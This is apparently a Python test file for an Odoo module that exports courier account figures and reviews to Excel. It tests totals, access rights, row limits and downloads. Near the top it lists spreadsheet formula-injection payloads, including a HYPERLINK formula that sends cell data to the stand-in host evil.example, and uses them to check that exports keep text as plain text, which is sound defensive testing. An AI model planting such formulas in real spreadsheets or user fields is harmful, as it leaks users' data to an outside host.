import io
import json
from unittest.mock import patch

from openpyxl import load_workbook

from odoo.exceptions import AccessError, UserError
from odoo.http import Request
from odoo.tests import HttpCase, freeze_time, tagged
from odoo.tools import mute_logger

from ..report import list_xlsx
from .review_common import ACTION, TODAY, ReviewCommon

EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "http://evil.example",
)


@tagged("post_install", "-at_install")
@freeze_time(f"{TODAY} 04:00:00")
class TestInsightLists(ReviewCommon, HttpCase):
    """Figures and analyses as workbooks of one long list."""

    def _export(self, records, user=None, domain=None):
        """Return the sheet that the list's button leads to."""
        records = records.with_user(user or self.centre)
        if domain is not None:
            records = records.with_context(active_domain=domain)
        action = records.action_export_list()
        content, kind = records.env["ir.actions.report"]._render_xlsx(
            action["report_name"], [], action["data"]
        )
        self.assertEqual(kind, "xlsx")
        return load_workbook(io.BytesIO(content)).active

    def _get_rows(self, sheet):
        """Return dicts of the values by title, without the totals."""
        titles, *rows = sheet.iter_rows(values_only=True)
        return [dict(zip(titles, row, strict=True)) for row in rows[:-1]]

    def _get_figures(self, *accounts):
        return self.env["kuaidi.monthly.figure"].search(
            [("account_id", "in", [account.id for account in accounts])]
        )

    def test_all_that_the_search_finds_is_in_it(self):
        for back in range(3):
            self._set_figure(back=back, pieces=1000 + back, weight_kg=2.5)
        self._set_figure(self.other_account, pieces=7)
        figures = self._get_figures(self.account, self.other_account)
        domain = [("account_id", "=", self.account.id)]
        sheet = self._export(figures.browse(), domain=domain)
        rows = self._get_rows(sheet)
        self.assertEqual([row["Pieces"] for row in rows], [1000, 1001, 1002])
        first = rows[0]
        self.assertEqual(first["Key Account"], "Haina Home")
        self.assertEqual(first["Client Code"], self.account.code)
        self.assertEqual(f"{first['Month']:%Y-%m-%d}", "2026-02-01")
        self.assertEqual(sheet["C2"].number_format, "yyyy-mm")
        self.assertEqual(first["Account Manager"], self.manager.name)
        self.assertEqual(first["Weight (kg)"], 2.5)
        self.assertIsNone(first["Industry"])

    def test_chosen_records_alone_are_in_it(self):
        for back in range(3):
            self._set_figure(back=back, pieces=1000 + back)
        figures = self._get_figures(self.account)
        sheet = self._export(figures[1:], domain=[("pieces", "=", 1000)])
        self.assertEqual([row["Pieces"] for row in self._get_rows(sheet)], [1001, 1002])

    def test_counts_and_amounts_have_totals(self):
        for back in range(3):
            self._set_figure(
                back=back, pieces=1000, late_count=back, amount_revenue=0.1
            )
        sheet = self._export(self._get_figures(self.account))
        heads = {cell.value: cell.column_letter for cell in sheet[1]}
        self.assertEqual(sheet["A5"].value, "Total")
        for title in (
            "Pieces",
            "Late Parcels",
            "Revenue",
            "Weight (kg)",
            "Accidents",
        ):
            column = heads[title]
            with self.subTest(title=title):
                self.assertEqual(
                    sheet[f"{column}5"].value, f"=SUBTOTAL(9,{column}2:{column}4)"
                )
        self.assertEqual(sheet.auto_filter.ref, f"A1:{sheet[1][-1].column_letter}4")
        self.assertIsNone(sheet[f"{heads['Month']}5"].value)

    def test_an_analysis_is_one_row_and_what_is_not_known_is_empty(self):
        self._set_figure(pieces=1000, late_count=25, amount_revenue=9000)
        review = self._complete(self._generate().with_user(self.manager))
        [row] = self._get_rows(self._export(review))
        self.assertEqual(row["State"], "Completed")
        self.assertEqual(row["Has Figures"], "Yes")
        self.assertEqual((row["Parcels"], row["Late Parcels"]), (1000, 25))
        self.assertEqual(row["Late (%)"], 0.025)
        self.assertEqual(row["Next Actions"], ACTION)
        for title in ("Parcels Last Month", "On Last Month (%)", "On Last Year (%)"):
            with self.subTest(title=title):
                self.assertIsNone(row[title])

    def test_texts_stay_texts(self):
        self._set_figure()
        review = self._generate()
        for text in EVIL:
            self.account.partner_id.name = text
            review.note_action = text
            for record in (review, self._get_figures(self.account)):
                with self.subTest(text=text, model=record._name):
                    sheet = self._export(record)
                    cells = list(sheet[2])
                    self.assertIn(text, [cell.value for cell in cells])
                    self.assertNotIn("f", {cell.data_type for cell in cells})
                    self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_a_text_that_excel_does_not_take_is_cut(self):
        review = self._make_review()
        review.note_action = "x" * 40_000
        [row] = self._get_rows(self._export(review))
        self.assertEqual(row["Next Actions"], "x" * 32_767)

    @mute_logger("odoo.addons.base.models.ir_rule", "odoo.addons.base.models.ir_model")
    def test_who_may_export(self):
        review = self._make_review()
        figures = self._get_figures(self.account)
        for user in (self.finance, self.centre, self.admin):
            for record in (review, figures):
                with self.subTest(user=user.login, model=record._name):
                    self.assertEqual(len(self._get_rows(self._export(record, user))), 1)
        for user in (self.manager, self.sales, self.leader, self.portal):
            for record in (review, figures):
                report = self.env.ref(record._list_report)
                reports = self.env["ir.actions.report"].with_user(user)
                with self.subTest(user=user.login, model=record._name):
                    with self._refused(AccessError):
                        record.with_user(user).action_export_list()
                    with self._refused(AccessError):
                        reports._render_xlsx(report.report_name, [], {"domain": []})

    def test_rules_hold_for_what_is_exported(self):
        self._set_figure()
        self._set_figure(self.other_account)
        figures = self._get_figures(self.account, self.other_account)
        self.manager.group_ids |= self.env.ref("base.group_allow_export")
        rows = self._get_rows(
            self._export(figures.browse(), self.manager, [("id", "in", figures.ids)])
        )
        mine = figures.with_user(self.manager)._filtered_access("read")
        self.assertLess(len(mine), len(figures))
        self.assertEqual(
            {row["Client Code"] for row in rows}, set(mine.account_id.mapped("code"))
        )

    def test_a_list_that_is_too_long_is_refused(self):
        for back in range(3):
            self._set_figure(back=back)
        figures = self._get_figures(self.account)
        with patch.object(list_xlsx, "MOST_ROWS", 2):
            with self._refused(UserError, "filter the list"):
                self._export(figures)
            self.assertEqual(len(self._get_rows(self._export(figures[:2]))), 2)

    def test_queries_do_not_grow_with_the_rows(self):
        for back in range(12):
            self._set_figure(back=back)
        figures = self._get_figures(self.account)
        counts = []
        for number in (2, 12):
            self._export(figures[:number])
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            self._export(figures[:number])
            counts.append(self.env.cr.sql_log_count - before)
        self.assertEqual(*counts)

    def test_the_browser_gets_it_by_its_name(self):
        self._set_figure()
        self.centre.password = self.centre.login
        self.authenticate(self.centre.login, self.centre.login)
        report = self.env.ref("kuaidi_key_account.monthly_figure_list_report")
        domain = json.dumps({"domain": [["account_id", "=", self.account.id]]})
        response = self.url_open(
            "/report/download",
            data={
                "data": json.dumps(
                    [f"/report/xlsx/{report.report_name}?options={domain}", "xlsx"]
                ),
                "context": json.dumps({}),
                "csrf_token": Request.csrf_token(self),
            },
        )
        self.assertIn("Monthly%20Figures.xlsx", response.headers["Content-Disposition"])
        sheet = load_workbook(io.BytesIO(response.content)).active
        self.assertEqual([row["Pieces"] for row in self._get_rows(sheet)], [1000])
